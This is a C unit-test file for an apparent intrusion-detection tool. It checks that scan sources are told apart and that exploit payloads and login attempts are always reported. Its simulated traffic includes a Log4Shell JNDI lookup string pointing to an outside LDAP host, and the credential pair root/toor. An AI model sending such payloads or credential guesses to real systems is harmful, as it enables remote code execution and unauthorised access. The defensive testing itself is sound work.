/* actors at random: no source is ever credited with another's doings, and nothing that carries a payload or a login is swallowed. */
#include "actor_rig.h"

#include "support/random.h"
#include "text/ip.h"

#include <stdlib.h>

enum { SCANNERS = 12 };

struct scanner {
    char name[64];
    unsigned char tcp[8192], udp[8192];
    uint64_t n_tcp, n_udp, touches;
};

static bool mark(unsigned char *bits, uint16_t port)
{
    bool was = bits[port / 8] >> (port % 8) & 1;
    bits[port / 8] |= (unsigned char)(1u << (port % 8));
    return !was;
}

static void touch_as(struct rig *r, struct scanner *s, uint16_t port, enum ct_technique technique)
{
    assert_int_equal(rig_touch(r, s->name, port, technique), CT_OK);
    s->touches++;
    if (technique == CT_TECHNIQUE_UDP) s->n_udp += mark(s->udp, port);
    else if (technique != CT_TECHNIQUE_PING) s->n_tcp += mark(s->tcp, port);
}

static void check_ranges(const struct ct_port_range *ranges, const struct ct_actor_ports *p, const unsigned char *bits, uint64_t n)
{
    assert_int_equal(p->n, n);
    for (size_t i = 0; i < p->n_ranges; i++)
        for (uint32_t port = ranges[i].first; port <= ranges[i].last; port++)
            assert_true(bits[port / 8] >> (port % 8) & 1);
}

/* Sources beside each other, v4 and v6, their touches shuffled: each has exactly its own ports. */
static void interleaved_scanners_are_told_apart(void **state)
{
    (void)state;
    struct rng rng = rng_new("interleaved");
    static const enum ct_technique techniques[] = {CT_TECHNIQUE_SYN, CT_TECHNIQUE_CONNECT, CT_TECHNIQUE_NULL, CT_TECHNIQUE_FIN,
                                                   CT_TECHNIQUE_XMAS, CT_TECHNIQUE_UDP, CT_TECHNIQUE_PING};
    for (unsigned round = 0; round < 10; round++) {
        struct scanner *s = calloc(SCANNERS, sizeof *s);
        struct rig r;
        assert_non_null(s);
        rig_init(&r);
        rig_open(&r, NULL);
        for (unsigned i = 0; i < SCANNERS; i++) {
            /* Neighbours, and the same bits in both families. */
            if (i % 2) (void)snprintf(s[i].name, sizeof s[i].name, "::a00:%x", i + rng_below(&rng, 2) * 256);
            else (void)snprintf(s[i].name, sizeof s[i].name, "10.0.%u.%u", rng_below(&rng, 2), i);
        }
        for (unsigned k = 0; k < 20000; k++) {
            struct scanner *who = &s[rng_below(&rng, SCANNERS)];
            uint32_t span = round % 2 ? 65536 : 3000;
            touch_as(&r, who, (uint16_t)rng_below(&rng, span), techniques[rng_below(&rng, 7)]);
            if (rng_below(&rng, 50) == 0) rig_wait(&r, rng_below(&rng, 200));
        }
        ct_actors_flush(r.actors, r.now);
        for (unsigned i = 0; i < SCANNERS; i++) {
            const struct rig_event *last = NULL;
            for (size_t k = 0; k < r.n; k++)
                if (strcmp(r.events[k].source, s[i].name) == 0) last = &r.events[k];
            if (!last) {
                fail_msg("%s was never told of", s[i].name);
                continue;
            }
            check_ranges(last->tcp, &last->e.tcp, s[i].tcp, s[i].n_tcp);
            check_ranges(last->udp, &last->e.udp, s[i].udp, s[i].n_udp);
            assert_int_equal(last->e.touches, s[i].touches);
        }
        rig_done(&r);
        free(s);
    }
}

/* Whatever was learned, confirmed, ignored (without saying so of payloads) or came before: a payload and a login are told. */
static void nothing_serious_is_swallowed(void **state)
{
    (void)state;
    struct rng rng = rng_new("serious");
    for (unsigned round = 0; round < 40; round++) {
        struct rig r;
        rig_init(&r);
        r.opts.actors_max = 1 + rng_below(&rng, 200);
        r.opts.memory_max = rng_below(&rng, 2) ? 0 : 20000;
        rig_learn(&r, r.now.mono_ms + rng_below(&rng, 30000));
        struct ct_fault fault = {0};
        assert_int_equal(ct_background_parse(r.background, CT_STR("confirmed 10.0.0.0/25 tcp/80\nlearned any udp\nrejected 10.0.0.9 tcp/80\n"), &fault), CT_OK);
        rig_ignore(&r, "10.0.0.0/26\nany tcp/443\n");
        rig_open(&r, NULL);
        unsigned payloads[256] = {0}, logins[256] = {0};
        for (unsigned k = 0; k < 400; k++) {
            unsigned who = rng_below(&rng, 256);
            char source[32];
            (void)snprintf(source, sizeof source, "10.0.0.%u", who);
            uint16_t port = (uint16_t)(rng_below(&rng, 3) ? 80 : 443);
            switch (rng_below(&rng, 8)) {
            case 0:
                (void)rig_session(&r, source, port, "http", "${jndi:ldap://10.6.6.6/a}");
                assert_null(r.record.background);
                payloads[who]++;
                break;
            case 1:
                (void)rig_login(&r, source, port, "root", "toor");
                assert_null(r.record.background);
                logins[who]++;
                break;
            case 2: (void)rig_session(&r, source, port, "http", "GET /"); break;
            default: (void)rig_touch(&r, source, (uint16_t)(rng_below(&rng, 4) ? port : rng_below(&rng, 65536)), (enum ct_technique)rng_below(&rng, CT_TECHNIQUE_COUNT));
            }
            if (rng_below(&rng, 4) == 0) rig_wait(&r, rng_below(&rng, 3000));
        }
        ct_actors_flush(r.actors, r.now);
        struct ct_actor_stats stats;
        ct_actors_stats(r.actors, &stats);
        uint64_t all_payloads = 0, all_logins = 0;
        for (unsigned who = 0; who < 256; who++) {
            char source[32];
            bool told_payload = false, told_login = false;
            (void)snprintf(source, sizeof source, "10.0.0.%u", who);
            for (size_t i = 0; i < r.n; i++) {
                if (strcmp(r.events[i].source, source) != 0 || r.events[i].e.crowd) continue;
                told_payload = told_payload || strcmp(r.events[i].grade, "exploit") == 0;
                told_login = told_login || r.events[i].e.logins_tried;
            }
            assert_int_equal(told_payload, payloads[who] > 0);
            assert_int_equal(told_login, logins[who] > 0);
            all_payloads += payloads[who];
            all_logins += logins[who];
        }
        assert_int_equal(stats.payloads, all_payloads);
        assert_int_equal(stats.logins, all_logins);
        rig_done(&r);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(interleaved_scanners_are_told_apart),
        cmocka_unit_test(nothing_serious_is_swallowed),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
